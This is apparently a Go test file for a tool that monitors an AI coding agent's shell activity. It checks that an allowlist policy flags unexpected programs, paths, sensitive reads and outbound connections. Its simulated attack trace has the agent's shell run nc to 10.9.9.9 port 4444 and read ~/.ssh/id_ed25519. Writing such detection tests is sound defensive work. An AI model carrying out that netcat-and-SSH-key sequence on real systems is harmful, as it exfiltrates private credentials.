package detect

import (
	"testing"

	"github.com/polygraph/polygraph/internal/policy"
)

// allowlist is a policy as policy learn writes one.
func allowlist(t *testing.T) *policy.Policy {
	t.Helper()
	p, err := policy.Parse([]byte("allowed_programs: [bash, go]\nallowed_paths: ['./*', './src/**', '~/.cache/go-build/**']\n"), "learned.yaml")
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// work is an ordinary shell call: bash runs go, which reads the project
// and writes its cache; with attack, it also runs nc and reads ~/.ssh.
func work(b *builder, attack bool) {
	ag := b.agent(100, "/usr/local/bin/claude")
	b.shell("t1", "go build ./...")
	sh := ag.spawn(200, "t1", "/usr/bin/bash", "bash", "-c", "go build ./...")
	g := sh.spawn(201, "t1", "/usr/local/go/bin/go", "go", "build", "./...")
	g.open(proj+"/go.mod", "read")
	g.open(proj+"/src/main.go", "read")
	g.open(home+"/.cache/go-build/ab/abc-d", "write,create")
	g.open("/usr/local/go/src/fmt/print.go", "read")
	if attack {
		nc := sh.spawn(202, "t1", "/usr/bin/nc", "nc", "10.9.9.9", "4444")
		nc.open(home+"/.ssh/id_ed25519", "read")
		nc.connect("10.9.9.9", 4444)
	}
}

func TestAllowlistRules(t *testing.T) {
	runCases(t, []ruleCase{
		{
			name:  "built-in policy: the allowlist rules say nothing",
			build: func(b *builder) { work(b, true) },
			want:  []string{"high sensitive-read", "high unexpected-egress"},
		},
		{
			name:  "allowlist, honest work: nothing",
			build: func(b *builder) { b.pol = allowlist(t); work(b, false) },
		},
		{
			name:  "allowlist, attack: nc and ~/.ssh reported",
			build: func(b *builder) { b.pol = allowlist(t); work(b, true) },
			want:  []string{"high sensitive-read", "high unexpected-egress", "medium unexpected-program", "low unexpected-path"},
			check: func(t *testing.T, fs []Finding) {
				if f := find(t, fs, "unexpected-program"); f.Title != "Program outside the allowlist: nc" || f.ToolCallID != "t1" {
					t.Errorf("unexpected-program: %s [%s]", f.Title, f.ToolCallID)
				}
				if f := find(t, fs, "unexpected-path"); f.Title != "Path outside the allowlist read: ~/.ssh/id_ed25519" {
					t.Errorf("unexpected-path: %s", f.Title)
				}
			},
		},
		{
			// The learned ~/.cache/go-build/** holds under HOME=/srv/ci;
			// /srv/ci/src is no workspace all the same.
			name: "allowlist, HOME overridden: the process's home is ~",
			build: func(b *builder) {
				b.pol = allowlist(t)
				ag := b.agent(100, "/usr/local/bin/claude")
				b.shell("t1", "env -i HOME=/srv/ci bash -c 'go build ./...'")
				sh := ag.spawn(200, "t1", "/usr/bin/bash", "bash", "-c", "go build ./...").home("/srv/ci")
				g := sh.spawn(201, "", "/usr/local/go/bin/go", "go", "build", "./...")
				g.open("/srv/ci/.cache/go-build/ab/abc-d", "read")
				g.open("/srv/ci/src/x.go", "read")
			},
			want: []string{"low unexpected-path"},
			check: func(t *testing.T, fs []Finding) {
				if f := find(t, fs, "unexpected-path"); f.Title != "Path outside the allowlist read: /srv/ci/src/x.go" {
					t.Errorf("unexpected-path: %s", f.Title)
				}
			},
		},
	})
}
